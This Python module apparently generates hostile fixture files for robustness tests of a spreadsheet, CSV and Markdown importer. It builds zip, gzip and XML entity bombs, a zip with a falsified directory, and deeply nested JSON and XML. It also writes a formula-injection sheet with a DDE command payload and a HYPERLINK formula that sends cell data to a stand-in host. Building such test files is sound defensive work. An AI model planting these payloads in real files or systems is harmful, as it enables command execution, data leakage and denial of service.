"""Files of a kind that no collection keeps: small ones that grow, and large ones of nothing."""

from __future__ import annotations

import gzip
import os
from collections.abc import Callable, Iterable, Iterator
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

MB = 1_000_000
_SHEET = "xl/worksheets/sheet1.xml"
_ENTITIES = '<!DOCTYPE x [<!ENTITY a "{a}">{more}]>'


def make_hostile_files(folder: Path) -> list[Path]:
    """In the folder, which is made."""
    folder.mkdir(parents=True, exist_ok=True)
    large = _written(folder / "large_cell.csv", [b"a,"])
    os.truncate(large, 400 * MB)  # takes no room on the disk
    return [large, *(_written(folder / name, make()) for name, make in _FILES.items())]


def _written(path: Path, pieces: Iterable[bytes]) -> Path:
    with path.open("wb") as file:
        file.writelines(pieces)
    return path


def _workbook(change: Callable[[bytes], Iterable[bytes]]) -> bytes:
    """One whose sheet was rewritten."""
    from openpyxl import Workbook

    made, plain, target = Workbook(), BytesIO(), BytesIO()
    made.active.append(["a", "b"])  # type: ignore[union-attr]
    made.save(plain)
    source = ZipFile(plain)
    with ZipFile(target, "w", ZIP_DEFLATED, compresslevel=1) as archive:
        for name in source.namelist():
            found = source.read(name)
            with archive.open(name, "w") as file:
                file.writelines(change(found) if name == _SHEET else [found])
    return target.getvalue()


def _rows(pieces: Iterable[bytes]) -> Callable[[bytes], Iterable[bytes]]:
    """Instead of the sheet's own."""

    def change(sheet: bytes) -> Iterator[bytes]:
        before, _start, rest = sheet.partition(b"<sheetData>")
        yield before + b"<sheetData>"
        yield from pieces
        yield rest[rest.index(b"</sheetData>") :]

    return change


def _entities(sheet: bytes) -> Iterable[bytes]:
    """A billion letters out of ten."""
    more = "".join(
        f'<!ENTITY {name} "{f"&{inner};" * 10}">'
        for inner, name in zip("abcdefgh", "bcdefghi", strict=True)
    )
    declared = _ENTITIES.format(a="x" * 10, more=more).encode()
    return [b'<?xml version="1.0"?>', declared, sheet.replace(b"<t>a", b"<t>&i;")]


def _lying_directory() -> Iterable[bytes]:
    """It says that the sheet has a hundred bytes, of 20 MB."""
    data = _workbook(lambda sheet: [sheet, *[b" " * MB] * 20])
    place = data.rindex(_SHEET.encode())  # the name ends an entry of 46 bytes
    return [data[: place - 22], (100).to_bytes(4, "little"), data[place - 18 :]]


def _formulas() -> Iterable[bytes]:
    formula = b"<f>HYPERLINK(&quot;http://x.invalid/&quot;&amp;A1)</f>"
    cells = b'<c t="str">' + formula + b"<v>=cmd|&apos; /C calc&apos;!A0</v></c>"
    return [_workbook(_rows([b"<row>" + cells * 50 + b"</row>"] * 100))]


def _gzipped(pieces: Iterable[bytes]) -> Iterable[bytes]:
    target = BytesIO()
    with gzip.open(target, "wb", compresslevel=1) as file:
        file.writelines(pieces)
    return [target.getvalue()]


_FILES: dict[str, Callable[[], Iterable[bytes]]] = {
    "zip_bomb.xlsx": lambda: [_workbook(lambda sheet: [sheet, *[b" " * MB] * 60])],
    "lying_directory.xlsx": _lying_directory,
    "entity_bomb.xlsx": lambda: [_workbook(_entities)],
    "formulas.xlsx": _formulas,
    "many_cells.xlsx": lambda: [
        _workbook(_rows([b"<row>" + b"<c><v>1</v></c>" * 200 + b"</row>"] * 9_000))
    ],
    "last_corner.xlsx": lambda: [
        _workbook(_rows([b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>']))
    ],
    "surrogates.xlsx": lambda: [
        _workbook(_rows([b'<row><c t="str"><v>_xD800_ a _xDC00__xFFFF_</v></c></row>'] * 2))
    ],
    "gzip_bomb.csv.gz": lambda: _gzipped([b"a,b\n" * (MB // 4)] * 60),
    "gzip_cut_off.csv.gz": lambda: [next(iter(_gzipped([b"a,b\n" * 999])))[:-12]],
    "million_columns.csv": lambda: [b"," * MB, b"\n"],
    "million_columns_below.csv": lambda: [b"a,b\n", b"," * MB, b"\n"],
    "wide_lines.csv": lambda: [b"a," * (MB - 9) + b"\n"] * 12,
    "long_words.csv": lambda: [b"\xe9" + b"a" * (2 * MB - 9) + b"\n"] * 12,
    "cell_of_49_megabytes.csv": lambda: [b"a,", *[b"x" * MB] * 49],
    "quotes.csv": lambda: [b'"' * MB] * 49,
    "quotes_in_lines.csv": lambda: [b'"\n' * (MB // 2)] * 49,
    "commas_in_lines.csv": lambda: [b",,,,\n" * (MB // 5)] * 49,
    "open_quote.csv": lambda: [b'a,b\n"', *[b"x,y\n" * (MB // 4)] * 40],
    "nothing.csv": lambda: [b"\0" * MB],
    "blank_lines.csv": lambda: [b"\n" * MB] * 49,
    "surrogates.csv": lambda: [b"Stage,Pain\nBuy,\xed\xa0\x80 a \xed\xb0\x80\n"],
    "dashes.md": lambda: [b"|-" * 200_000, b"\n"] * 3,
    "fences.md": lambda: [b"```journey\n" * 90_000],
    "pipes.md": lambda: [b"|a|\n|-|\n" * 90_000],
    "headings.md": lambda: [b"# a\n- b\n" * 90_000],
    "brackets.json": lambda: [b"[" * 5 * MB],
    "numbers.json": lambda: [b"[", b"9" * 5 * MB, b"]"],
    "deep.xml": lambda: [b"<a>" * MB],
    "deep.xes": lambda: [b"<log>", b"<trace>" * MB],
}
